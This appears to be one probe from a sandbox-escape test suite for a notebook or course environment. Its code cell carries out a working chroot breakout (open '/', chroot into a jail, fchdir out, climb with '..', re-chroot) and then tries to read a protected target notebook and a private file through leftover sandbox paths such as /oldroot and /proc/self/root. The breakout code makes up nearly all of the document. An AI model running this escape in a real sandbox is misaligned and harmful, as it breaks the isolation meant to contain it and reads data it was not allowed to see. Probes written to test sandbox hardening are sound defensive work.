"""What a sandbox leaves behind is looked for: the old root, and folders above the root of the file system."""

kind = "user-namespace and mount tricks"
aims = "read prove"
cell = """
import os

os.makedirs("jail", exist_ok=True)
out = os.open("/", os.O_RDONLY)
try:
    os.chroot("jail")
    os.fchdir(out)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
for path in ("/oldroot", "/newroot", "/.oldroot", "/proc/self/root/..", "/../.."):
    for secret in ("<<course>>/source/target/target.ipynb", "<<home>>/private.txt"):
        try:
            print(open(path + secret).read())
        except OSError:
            pass
"""
